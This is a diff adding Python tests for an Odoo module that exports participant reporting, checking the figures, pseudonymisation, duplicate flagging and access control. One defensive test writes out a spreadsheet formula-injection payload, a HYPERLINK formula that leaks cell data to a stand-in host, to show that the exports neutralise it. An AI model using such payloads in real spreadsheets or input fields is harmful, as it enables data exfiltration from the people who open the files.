@@ -1,0 +1,150 @@
+import base64
+import csv
+import io
+import re
+import zipfile
+from xml.etree import ElementTree
+
+from freezegun import freeze_time
+
+from odoo.exceptions import AccessError
+from odoo.tests import tagged
+
+from .common_reporting import AFTER, KommuneReportingNetworkCommon
+
+NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+
+
+def read_xlsx(content):
+    """{sheet name: [[cell values]]} of an XLSX file (strings and numbers only)."""
+    book = zipfile.ZipFile(io.BytesIO(content))
+    strings = [
+        "".join(node.itertext())
+        for node in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("x:si", NS)
+    ]
+    names = [
+        sheet.get("name")
+        for sheet in ElementTree.fromstring(book.read("xl/workbook.xml")).iter(
+            f"{{{NS['x']}}}sheet"
+        )
+    ]
+    sheets = {}
+    for index, name in enumerate(names, start=1):
+        root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{index}.xml"))
+        rows = []
+        for row in root.iter(f"{{{NS['x']}}}row"):
+            values = []
+            for cell in row.findall("x:c", NS):
+                column = re.match(r"[A-Z]+", cell.get("r")).group()
+                position = ord(column) - ord("A")
+                values += [None] * (position - len(values))
+                raw = cell.find("x:v", NS).text
+                values.append(strings[int(raw)] if cell.get("t") == "s" else float(raw))
+            rows.append(values)
+        sheets[name] = rows
+    return sheets
+
+
+def xlsx_sheets_xml(content):
+    """The XML of every worksheet of an XLSX file, joined."""
+    book = zipfile.ZipFile(io.BytesIO(content))
+    return b"".join(
+        book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/sheet")
+    )
+
+
+@tagged("post_install", "-at_install")
+class TestReportingExport(KommuneReportingNetworkCommon):
+    """The files the funder receives: exact figures in the XLSX, no names in the
+    participant list, stable pseudonyms, duplicates flagged, reporting only."""
+
+    def export(self, period=None, user=None):
+        with freeze_time(AFTER):
+            wizard = (
+                self.env["kommune.reporting.export"]
+                .with_user(user or self.reporter)
+                .create({"period_id": (period or self.period).id})
+            )
+            return base64.b64decode(wizard.xlsx_file), base64.b64decode(wizard.csv_file)
+
+    def test_indicator_table(self):
+        xlsx, _csv = self.export()
+        sheets = read_xlsx(xlsx)
+        table = {row[0]: row[1:] for row in next(iter(sheets.values()))[2:]}
+        self.assertEqual(table["Participants"], [3, 2, 2, 0, 0], "period, then Q1 to Q4")
+        self.assertEqual(table["Short Contacts"], [2, 1, 2, 0, 0])
+        self.assertEqual(table["Participant Hours"], [41, 21, 20, 0, 0])
+        self.assertEqual(table["Certificates"], [6, 2, 4, 0, 0])
+        self.assertEqual(table["Meetings Held"], [1, 0, 1, 0, 0])
+        breakdowns = list(sheets.values())[1]
+        self.assertIn(["Gender", "Female", 1], breakdowns)
+        self.assertIn(["Gender", "No answer", 1], breakdowns)
+        self.assertIn(["Gender", "Not answered", 1], breakdowns)
+        self.assertIn(["Disability", "Yes", 1], breakdowns)
+        cooperations = list(sheets.values())[2]
+        self.assertEqual(cooperations[1], [self.stage.name, self.district_spandau.name, 1])
+
+    def test_participant_list_is_pseudonymised(self):
+        _xlsx, content = self.export()
+        text = content.decode("utf-8-sig")
+        rows = list(csv.DictReader(io.StringIO(text)))
+        self.assertEqual(len(rows), 3, "participants only: short contacts are an aggregate")
+        for word in ("Teilnehmende", "Petra", "Verwaltung", "@", "Brücke"):
+            self.assertNotIn(word, text)
+        self.assertNotIn("10115", text, "no postcode")
+        self.assertEqual(
+            sorted((row["gender"], row["hours"], row["attendances"]) for row in rows),
+            [("", "8", "1"), ("female", "17", "2"), ("no_answer", "9", "1")],
+        )
+        self.assertEqual({row["disability"] for row in rows}, {"yes", ""})
+        # Stable within the period, different in the next one.
+        _xlsx, again = self.export()
+        self.assertEqual(again, content)
+        _xlsx, earlier = self.export(self.period_2030)
+        (row_2030,) = csv.DictReader(io.StringIO(earlier.decode("utf-8-sig")))
+        self.assertEqual(row_2030["hours"], "8")
+        self.assertNotIn(row_2030["pseudonym"], text)
+
+    def test_duplicates_are_flagged(self):
+        """Petra's questionnaire gives the same names and postcode as P1's (spelt with
+        other cases and spaces): one of them is flagged as the other's duplicate."""
+        p1_questionnaire = self.env["kommune.participant.questionnaire"].search(
+            [("partner_id", "=", self.persons[1].id), ("period_id", "=", self.period.id)]
+        )
+        p1_questionnaire.write({"first_name": "Ayşe", "last_name": "Demir"})
+        self.env["kommune.participant.questionnaire"].create(
+            {
+                "partner_id": self.admin_person.id,
+                "period_id": self.period.id,
+                "first_name": "AYŞE",
+                "last_name": " demir",
+                "zip": "10115",
+            }
+        )
+        _xlsx, content = self.export()
+        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+        flagged = [row for row in rows if row["possible_duplicate_of"]]
+        self.assertEqual(len(flagged), 1)
+        pseudonyms = {row["pseudonym"] for row in rows}
+        self.assertIn(flagged[0]["possible_duplicate_of"], pseudonyms)
+        self.assertNotEqual(flagged[0]["possible_duplicate_of"], flagged[0]["pseudonym"])
+
+    def test_only_reporting_exports(self):
+        for user in (self.user, self.manager):
+            with self.assertRaises(AccessError):
+                self.export(user=user)
+
+    def test_names_never_become_formulas(self):
+        """A name typed by a user that starts like a formula (=, +, -, @) stays text in
+        both files: opening them must not run it (spreadsheet formula injection)."""
+        name = '=HYPERLINK("https://example.com/?leak="&A2;"Periode")'
+        self.period.name = name
+        self.district_spandau.name = "@SUM(1+1)"
+        xlsx, content = self.export()
+        sheets = read_xlsx(xlsx)
+        self.assertEqual(next(iter(sheets.values()))[0][0], name, "a string, not a formula")
+        self.assertNotIn(b"<f>", xlsx_sheets_xml(xlsx), "no formula at all")
+        self.assertEqual(list(sheets.values())[2][1][1], "@SUM(1+1)")
+        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+        self.assertTrue(rows)
+        self.assertEqual({row["period"] for row in rows}, {f"'{name}"})
